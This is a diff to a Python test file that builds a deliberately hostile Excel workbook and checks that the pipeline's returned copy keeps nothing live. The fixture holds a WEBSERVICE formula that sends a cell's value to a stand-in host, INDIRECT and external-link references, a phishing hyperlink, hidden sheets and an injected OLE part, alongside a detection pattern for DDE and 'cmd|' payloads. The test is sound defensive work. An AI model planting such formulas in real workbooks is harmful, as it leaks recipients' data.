@@ -4,11 +4,16 @@ the CSV of `bansou export` escapes every cell a spreadsheet would read as a form
 from __future__ import annotations
 
 import csv
+import re
+import zipfile
 from pathlib import Path
 
 import openpyxl
 import pytest
 from click.testing import CliRunner
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from pipeline.cli import main
 from pipeline.core.settings import RoundSettings
@@ -79,3 +84,64 @@ def test_control_and_bidi_characters_in_file_names_are_shown_escaped_and_stay_di
     everything = result.output + "".join(
         path.read_text(encoding="utf-8") for path in outbox.rglob("*.txt"))
     assert not any(ch in everything for ch in "\x07\x1b\u202e\u200b\t")
+
+
+# --- 差戻し workbooks carry nothing live ---------------------------------------------------------
+
+_PART_ALLOWED = re.compile(
+    r"^(\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core|custom)\.xml|xl/workbook\.xml|"
+    r"xl/_rels/workbook\.xml\.rels|xl/styles\.xml|xl/theme/theme1\.xml|xl/sharedStrings\.xml|"
+    r"xl/worksheets/sheet\d+\.xml|xl/worksheets/_rels/sheet\d+\.xml\.rels|xl/comments/comment\d+\.xml|"
+    r"xl/drawings/commentsDrawing\d+\.vml)$")
+_LIVE = re.compile(r"WEBSERVICE|INDIRECT|DDE|HYPERLINK|https?://|cmd\|", re.IGNORECASE)
+
+
+def _hostile_form(path: Path, blank_dir: Path) -> Path:
+    add_form(path.parent, path.name, org("生きた会", "新宿区", {"電話番号": "12"}), blank_dir=blank_dir)
+    workbook = openpyxl.load_workbook(path)
+    sheet = workbook["申請書"]
+    sheet.conditional_formatting.add("B1:B60", FormulaRule(
+        formula=['LEN(WEBSERVICE("http://example.invalid/?"&ENCODEURL($B$8)))>0']))
+    for formula in ('=WEBSERVICE("http://example.invalid/x")', "=INDIRECT('http://example.invalid'!A1)"):
+        rule = DataValidation(type="custom", formula1=formula)
+        rule.add("D5")
+        sheet.add_data_validation(rule)
+    sheet["E3"].hyperlink = "http://example.invalid/phish"
+    secret = workbook.create_sheet("裏")
+    secret["A1"] = "事前相談の有無"
+    secret["B1"] = "あり"
+    secret.sheet_state = "veryHidden"
+    workbook.create_sheet("隠し").sheet_state = "hidden"
+    workbook.defined_names["外部"] = DefinedName("外部", attr_text="'http://example.invalid/[x.xlsx]S'!$A$1")
+    workbook.save(path)
+    with zipfile.ZipFile(path, "a") as archive:  # parts openpyxl never writes back
+        archive.writestr("customXml/item1.xml", "<root>payload</root>")
+        archive.writestr("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 ole")
+        archive.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
+    return path
+
+
+def test_a_returned_workbook_carries_nothing_live(inbox: Path, blank_dir: Path,
+                                                  settings: RoundSettings) -> None:
+    _hostile_form(inbox / "live.xlsx", blank_dir)
+    outbox = inbox.parent / "outbox"
+    result = run_round(inbox, outbox, settings, RUN_AT)
+    assert result.ledger.set_index("file").loc["live.xlsx", "decision"] == "要修正"
+    returned = outbox / "差戻し" / "live_要修正.xlsx"
+    with zipfile.ZipFile(returned) as archive:
+        parts = archive.namelist()
+        assert [part for part in parts if not _PART_ALLOWED.match(part)] == []
+        xml = {part: archive.read(part).decode("utf-8") for part in parts}
+    for part, text in xml.items():  # every formula-bearing element and attribute
+        for found in re.findall(r"<(?:\w+:)?(?:f|formula\d?|definedName)\b[^>]*>([^<]*)<", text):
+            assert not _LIVE.search(found), (part, found)
+        assert "<conditionalFormatting" not in text, part
+    sheets = re.findall(r"<sheet [^>]*/>", xml["xl/workbook.xml"])
+    hidden = [s for s in sheets if "state=\"visible\"" not in s]
+    assert len(hidden) == 1 and 'name="リスト"' in hidden[0] and "veryHidden" not in hidden[0]
+    assert not any("裏" in s or "隠し" in s for s in sheets)
+    workbook = openpyxl.load_workbook(returned)
+    lists = workbook["リスト"]
+    assert lists["A1"].value == "区市町村（介護予防・日常生活支援総合事業担当部署等）"
+    kept = workbook["申請書"].data_validations.dataValidation
+    assert kept and all(rule.type in (None, "list") for rule in kept)
